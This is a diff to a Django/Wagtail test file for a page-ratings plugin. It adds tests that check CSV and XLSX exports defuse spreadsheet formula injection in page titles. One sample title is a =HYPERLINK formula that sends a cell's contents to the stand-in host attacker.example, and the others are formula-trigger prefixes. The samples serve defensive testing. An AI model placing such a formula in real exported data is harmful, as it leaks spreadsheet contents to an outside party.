@@ -11,6 +11,7 @@ from django.test import RequestFactory
 from django.urls import reverse
 from wagtail.models import Locale, ModelLogEntry, Page
 
+from tests.portal.models import NewsPage
 from wagtail_dangvu.ratings.models import Rating, Vote
 from wagtail_dangvu.ratings.panels import RatingPanel
 
@@ -50,7 +51,7 @@ def rated(home, reader_factory):
         "Tọa đàm dân vận khéo": (5, 4, 4, 4),
         "Thông báo lịch tiếp dân": (1, 1),
     }.items():
-        pages[title] = home.add_child(instance=Page(title=title))
+        pages[title] = home.add_child(instance=NewsPage(title=title))
         for score in scores:
             assert reader_factory().vote(pages[title], score).status_code == 201
     return pages
@@ -140,6 +141,57 @@ def test_the_listing_exports_xlsx(admin, rated):
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[1][0] == "Sơ kết Kết luận 21-KL/TW"
     assert rows[1][3:6] == (21, 5, 4.2)
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
+    "+84 912 345 678",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def hostile(home):
+    """Pages whose titles a spreadsheet would run as formulas, each with a rating."""
+    for number, title in enumerate(HOSTILE_TITLES):
+        page = home.add_child(instance=NewsPage(title=title, slug=f"hostile-{number}"))
+        Rating.objects.import_counters(page, total=4, count=1)
+
+
+def test_the_csv_export_starts_no_formula(admin, hostile):
+    response = admin.get(url("list"), {"export": "csv"})
+
+    body = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
+    assert sorted(row[0] for row in rows) == sorted("'" + title for title in HOSTILE_TITLES)
+    assert {row[3] for row in rows} == {"4"}  # figures stay figures
+
+
+def test_the_xlsx_export_keeps_titles_as_text(admin, hostile):
+    response = admin.get(url("list"), {"export": "xlsx"})
+
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    # As typed (an XML reader reads a carriage return as a line feed).
+    assert sorted(cell.value for cell in cells) == sorted(
+        title.replace("\r", "\n") for title in HOSTILE_TITLES
+    )
+    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")
+
+
+def test_the_exports_are_named_in_the_admins_language(admin, rated):
+    csv_response = admin.get(url("list"), {"export": "csv"})
+    xlsx_response = admin.get(url("list"), {"export": "xlsx"})
+
+    assert csv_response["Content-Disposition"] == (
+        "attachment; filename=\"danh-gia.csv\"; filename*=UTF-8''%C4%91%C3%A1nh-gi%C3%A1.csv"
+    )
+    assert xlsx_response["Content-Disposition"] == (
+        "attachment; filename=\"danh-gia.xlsx\"; filename*=UTF-8''%C4%91%C3%A1nh-gi%C3%A1.xlsx"
+    )
 
 
 def test_a_reset_asks_first(admin, rated):
